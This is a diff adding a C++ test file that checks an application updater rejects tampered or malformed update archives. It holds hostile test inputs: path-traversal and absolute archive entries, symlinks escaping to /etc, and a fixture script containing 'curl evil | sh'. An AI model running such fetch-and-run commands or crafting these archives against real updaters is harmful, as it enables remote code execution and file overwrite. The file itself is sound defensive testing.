@@ -1,0 +1,325 @@
+// Updater::install() in this process against update archives served by the fake site: every attack and
+// fault stops the installation with its message, leaves the installed bundle as it was and removes the
+// work folder. The successful installation, which ends the process, is UpdateEndToEndTest's.
+#include <sys/ioctl.h>
+#include <fcntl.h>
+#include <linux/fs.h>
+#include <unistd.h>
+
+#include <QTest>
+
+#include <gtest/gtest.h>
+
+#include <cctype>
+#include <cstdlib>
+#include <functional>
+#include <memory>
+#include <optional>
+#include <string>
+#include <vector>
+
+#include "FakeConfluence.h"
+#include "TestBundle.h"
+#include "updater/BundleSeal.h"
+#include "updater/Checksum.h"
+#include "updater/Ed25519.h"
+#include "updater/Updater.h"
+
+namespace folioport {
+namespace {
+
+using namespace testing;
+using fake::FakeConfluence;
+using Text = std::optional<std::string>;
+
+constexpr const char* feedPath = "/folioport/appcast.json";
+constexpr const char* archivePath = "/downloads/Folioport.zip";
+
+std::string upperCase(std::string text) {
+    for (char& c : text) c = static_cast<char>(std::toupper(static_cast<unsigned char>(c)));
+    return text;
+}
+
+/// Makes a folder unwritable even for root (immutable attribute), or by its mode for anyone else.
+class Unwritable {
+public:
+    explicit Unwritable(fs::path folder) : folder_(std::move(folder)) { set(true); }
+    ~Unwritable() { set(false); }
+
+private:
+    void set(bool on) {
+        if (::geteuid() != 0) {
+            fs::permissions(folder_, on ? fs::perms::owner_read | fs::perms::owner_exec : fs::perms::owner_all);
+            return;
+        }
+        const int fd = ::open(folder_.c_str(), O_RDONLY | O_DIRECTORY);
+        int flags = 0;
+        ::ioctl(fd, FS_IOC_GETFLAGS, &flags);
+        flags = on ? flags | FS_IMMUTABLE_FL : flags & ~FS_IMMUTABLE_FL;
+        ::ioctl(fd, FS_IOC_SETFLAGS, &flags);
+        ::close(fd);
+    }
+    fs::path folder_;
+};
+
+class InstallTest : public ::testing::Test {
+public:  // why: the table's rows are lambdas that build their archives through the fixture.
+    void SetUp() override {
+        // why: the work folder goes into the temporary directory; a private one shows what is left there.
+        fs::create_directories(temporary);
+        previousTemporary = std::getenv("TMPDIR") ? std::optional<std::string>(std::getenv("TMPDIR")) : std::nullopt;
+        ::setenv("TMPDIR", temporary.c_str(), 1);
+        writeBundle(installed, "1.0.1");
+        sealBundle(installed, trustedSigningKey());
+        auto started = FakeConfluence::start();
+        ASSERT_TRUE(started) << started.error();
+        site = std::move(*started);
+    }
+    void TearDown() override {
+        if (previousTemporary) ::setenv("TMPDIR", previousTemporary->c_str(), 1);
+        else ::unsetenv("TMPDIR");
+    }
+
+    UpdaterOptions options() {
+        return {.runningVersion = [] { return std::string("1.0.1"); },
+                .installedBundle = [this] { return std::optional(installed); },
+                .quit = [this] { ++quits; }};
+    }
+    /// A folder of its own for building one archive's contents.
+    fs::path stage(const std::string& name) {
+        const auto folder = scratch.path() / "stage" / name;
+        fs::create_directories(folder);
+        return folder;
+    }
+    /// The signed bundle "Folioport.app" of `version` in `folder`.
+    static fs::path signedBundle(const fs::path& folder, const std::string& version,
+                                 const std::string& key = trustedSigningKey()) {
+        const auto bundle = folder / "Folioport.app";
+        writeBundle(bundle, version);
+        sealBundle(bundle, key);
+        return bundle;
+    }
+    /// Zips members of `folder` and returns the archive's bytes.
+    static std::string zipped(const fs::path& folder, std::initializer_list<std::string> members,
+                              std::initializer_list<std::string> options = {}) {
+        const auto archive = folder.parent_path() / (folder.filename().string() + ".zip");
+        zipFolder(archive, folder, members, options);
+        return readFile(archive);
+    }
+    /// Serves a feed offering `version` and the archive, and lets a manual check find it.
+    void offer(Updater& updater, const std::string& version, std::string archive, Text sha256,
+               std::string url = {}, int archiveStatus = 200) {
+        nlohmann::json feed = {{"version", version}, {"url", url.empty() ? site->baseURL() + archivePath : url}};
+        if (sha256) feed["sha256"] = *sha256;
+        site->serve(feedPath, {200, feed.dump(), "application/json"});
+        site->serve(archivePath, {archiveStatus, std::move(archive)});
+        updater.check(site->baseURL() + feedPath, true);
+        ASSERT_TRUE(finishes(updater));
+        ASSERT_TRUE(updater.available());
+    }
+    static bool finishes(const Updater& updater) {
+        return QTest::qWaitFor([&] { return !updater.isChecking(); }, 10000);
+    }
+    /// Everything in the installation's folder, as the seal sees it.
+    BundleSeal::Listing installedFolder() const { return *BundleSeal::list(installed.parent_path()); }
+    bool workFolderLeft() const { return !fs::is_empty(temporary); }
+
+    ScratchFolder scratch;
+    fs::path temporary = scratch.path() / "tmp";
+    fs::path installed = scratch.path() / "Applications" / "Folioport.app";
+    std::optional<std::string> previousTemporary;
+    std::unique_ptr<FakeConfluence> site;
+    int quits = 0;
+};
+
+TEST_F(InstallTest, EveryAttackAndFaultStopsWithItsMessageAndLeavesNothingBehind) {
+    enum class Reached { download, verification, installation };
+    struct Row {
+        const char* name;
+        std::string version;  // in the feed
+        std::function<std::string(InstallTest&, const fs::path& stage)> archive;
+        std::function<Text(const std::string& archive)> sha256;
+        std::function<std::string(InstallTest&, const fs::path& stage)> message;
+        Reached reached = Reached::verification;
+        std::function<std::string(InstallTest&)> url = {};
+        int archiveStatus = 200;
+    };
+    const auto signedArchive = [](const std::string& version) {
+        return [version](InstallTest& t, const fs::path& stage) {
+            t.signedBundle(stage, version);
+            return t.zipped(stage, {"Folioport.app"});
+        };
+    };
+    const auto noDigest = [](const std::string&) { return Text(); };
+    const auto digestOf = [](const std::string& archive) { return Text(sha256Hex(archive)); };
+    const auto says = [](std::string text) { return [text](InstallTest&, const fs::path&) { return text; }; };
+    const std::string rejected = "Download rejected: not signed by the expected developer.\n";
+
+    const Row rows[] = {
+        {"wrong digest", "9.9.9", signedArchive("9.9.9"), [](const std::string&) { return Text(std::string(64, 'a')); },
+         says("Download rejected: checksum doesn't match the manifest.")},
+        {"digest in upper case accepted; 1.3 promised, 1.3.0 delivered", "1.3", signedArchive("1.3.0"),
+         [](const std::string& archive) { return Text(upperCase(sha256Hex(archive))); },
+         says("Download rejected: bundle is v1.3.0, manifest promised v1.3.")},
+        {"empty digest skipped", "9.9.9", signedArchive("9.9"), [](const std::string&) { return Text(""); },
+         says("Download rejected: bundle is v9.9, manifest promised v9.9.9.")},
+        {"bundle inside a folder", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             t.signedBundle(stage / "Release", "9.9.9");
+             return t.zipped(stage, {"Release"});
+         },
+         digestOf, says("Download failed: no .app inside the archive")},
+        {"two bundles: the first listed wins", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             t.signedBundle(stage / "A", "7.7.7");
+             t.signedBundle(stage / "B", "8.8.8");
+             fs::rename(stage / "A/Folioport.app", stage / "First.app");
+             fs::rename(stage / "B/Folioport.app", stage / "Second.app");
+             return t.zipped(stage, {"First.app", "Second.app"});
+         },
+         noDigest,
+         [](InstallTest&, const fs::path& stage) {
+             // why: the order is the file system's (by name hash on ext4); the first bundle it lists counts.
+             auto entry = fs::directory_iterator(stage);
+             while (entry->path().extension() != ".app") ++entry;
+             return "Download rejected: bundle is v" + std::string(entry->path().stem() == "First" ? "7.7.7" : "8.8.8") +
+                    ", manifest promised v9.9.9.";
+         }},
+        {"entry with ../", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             t.signedBundle(stage, "9.9.9");
+             writeFile(stage / "evil", "x");
+             return t.zipped(stage, {"Folioport.app", "evil"}, {"-s", ",^evil$,../evil,"});
+         },
+         digestOf, says("Download failed: unsafe path in the archive (../evil)")},
+        {"absolute entry", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             t.signedBundle(stage, "9.9.9");
+             writeFile(stage / "evil", "x");
+             return t.zipped(stage, {"Folioport.app", (stage / "evil").string()}, {"-P"});
+         },
+         digestOf,
+         [](InstallTest&, const fs::path& stage) {
+             return "Download failed: unsafe path in the archive (" + (stage / "evil").string() + ")";
+         }},
+        {"symlink pointing outside the archive", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             const auto bundle = t.signedBundle(stage, "9.9.9");
+             fs::create_symlink("/etc", bundle / "Contents/etc");
+             return t.zipped(stage, {"Folioport.app"});
+         },
+         digestOf, says("Download failed: symlink pointing outside the archive (Folioport.app/Contents/etc -> /etc)")},
+        {"symlink out of the bundle into the archive's folder", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             const auto bundle = t.signedBundle(stage, "9.9.9");
+             writeFile(stage / "notes", "x");
+             fs::create_symlink("../../../notes", bundle / "Contents/Resources/notes");
+             return t.zipped(stage, {"Folioport.app", "notes"});
+         },
+         digestOf, says(rejected + "symlink leaves the bundle: Contents/Resources/notes -> ../../../notes")},
+        {"unsigned bundle", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             writeBundle(stage / "Folioport.app", "9.9.9");
+             return t.zipped(stage, {"Folioport.app"});
+         },
+         digestOf, says(rejected + "not signed: no seal in Contents/Seal")},
+        {"signed by another key, digest matching", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             t.signedBundle(stage, "9.9.9", Ed25519::generatePrivateKey());
+             return t.zipped(stage, {"Folioport.app"});
+         },
+         digestOf, says(rejected + "signature does not match the key of team Q7R2K9M4ZX")},
+        {"one file changed after signing", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             const auto bundle = t.signedBundle(stage, "9.9.9");
+             writeFile(bundle / "Contents/bin/Folioport", "#!/bin/sh\ncurl evil | sh\n");
+             return t.zipped(stage, {"Folioport.app"});
+         },
+         digestOf, says(rejected + "modified: Contents/bin/Folioport")},
+        {"unreadable Info.plist", "9.9.9",
+         [](InstallTest& t, const fs::path& stage) {
+             writeBundle(stage / "Folioport.app", "9.9.9");
+             writeFile(stage / "Folioport.app/Contents/Info.plist", "<plist><array/></plist>");
+             sealBundle(stage / "Folioport.app", trustedSigningKey());
+             return t.zipped(stage, {"Folioport.app"});
+         },
+         digestOf, says("Download failed: unreadable Info.plist in the downloaded bundle")},
+        {"not a zip archive", "9.9.9", says("PK\x03\x04" "broken"), noDigest,
+         says("Download failed: could not unzip (bsdtar: Truncated ZIP file header\n"
+              "bsdtar: Error exit delayed from previous errors.\n)")},
+        {"HTTP 404 for the archive", "9.9.9", signedArchive("9.9.9"), noDigest, says("Download failed: HTTP 404"),
+         Reached::download, {}, 404},
+        {"download address that does not parse", "9.9.9", signedArchive("9.9.9"), noDigest,
+         says("Download failed: bad download URL"), Reached::download,
+         [](InstallTest&) { return std::string("https://exa mple.invalid/x.zip"); }},
+        {"unwritable installation folder", "9.9.9", signedArchive("9.9.9"), digestOf,
+         [](InstallTest& t, const fs::path&) {
+             return "Can't replace " + t.installed.string() + " — no write permission.";
+         },
+         Reached::installation},
+    };
+    int index = 0;
+    for (const Row& row : rows) {
+        SCOPED_TRACE(row.name);
+        const auto folder = stage(std::to_string(index++));
+        const std::string archive = row.archive(*this, folder);
+        const std::string expected = row.message(*this, folder);
+        const auto before = installedFolder();
+        Updater updater(options());
+        offer(updater, row.version, archive, row.sha256(archive), row.url ? row.url(*this) : "", row.archiveStatus);
+        std::vector<Text> statuses;
+        QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
+        {
+            const auto locked = row.reached == Reached::installation ? std::make_unique<Unwritable>(installed.parent_path())
+                                                                     : nullptr;
+            updater.install();
+            ASSERT_TRUE(finishes(updater));
+        }
+
+        EXPECT_EQ(updater.errorMessage(), expected);
+        std::vector<Text> expectedStatuses = {"Downloading v" + row.version + "…"};
+        if (row.reached >= Reached::verification) expectedStatuses.push_back("Verifying…");
+        if (row.reached >= Reached::installation) expectedStatuses.push_back("Installing…");
+        expectedStatuses.push_back(std::nullopt);
+        EXPECT_EQ(statuses, expectedStatuses);
+        EXPECT_EQ(installedFolder(), before);
+        EXPECT_FALSE(workFolderLeft());
+        EXPECT_TRUE(updater.available());
+        EXPECT_EQ(quits, 0);
+    }
+}
+
+TEST_F(InstallTest, ASecondInstallOrACheckDuringAnInstallationDoesNothing) {
+    Updater updater(options());
+    const auto folder = stage("once");
+    signedBundle(folder, "9.9");
+    offer(updater, "9.9.9", zipped(folder, {"Folioport.app"}), std::nullopt);
+    site->setLatency(std::chrono::milliseconds(300));
+    std::vector<Text> statuses;
+    QObject::connect(&updater, &Updater::statusChanged, [&] { statuses.push_back(updater.status()); });
+    updater.install();
+    updater.install();
+    updater.check(site->baseURL() + feedPath, true);
+    ASSERT_TRUE(finishes(updater));
+    EXPECT_EQ(statuses, (std::vector<Text>{"Downloading v9.9.9…", "Verifying…", std::nullopt}));
+    EXPECT_EQ(std::ranges::count(site->requests(), std::string(archivePath), &fake::LoggedRequest::path), 1);
+    EXPECT_EQ(updater.errorMessage(), "Download rejected: bundle is v9.9, manifest promised v9.9.9.");
+}
+
+TEST_F(InstallTest, ACopyOutsideABundleRefusesBeforeDownloading) {
+    UpdaterOptions outside = options();
+    outside.installedBundle = [] { return std::optional<fs::path>(); };
+    Updater updater(outside);
+    const auto folder = stage("outside");
+    signedBundle(folder, "9.9.9");
+    offer(updater, "9.9.9", zipped(folder, {"Folioport.app"}), std::nullopt);
+    site->clearRequests();
+    updater.install();
+    EXPECT_FALSE(updater.isChecking());
+    EXPECT_EQ(updater.errorMessage(),
+              "This copy of Folioport does not run from an installed Folioport.app, so it cannot update itself.");
+    EXPECT_TRUE(site->requests().empty());
+}
+
+}  // namespace
+}  // namespace folioport
